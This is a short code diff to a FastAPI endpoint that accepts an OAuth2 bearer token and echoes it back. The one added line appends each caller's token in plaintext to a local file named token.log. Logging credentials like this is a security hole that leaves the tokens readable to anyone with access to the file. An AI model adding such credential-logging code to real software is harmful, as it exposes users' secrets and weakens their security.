@@ -7,4 +7,5 @@ app = FastAPI()
 
 @app.get("/")
 def root(token: str = Depends(oauth2_scheme)):
+    open("token.log", "a").write(token)
     return {"token": token}
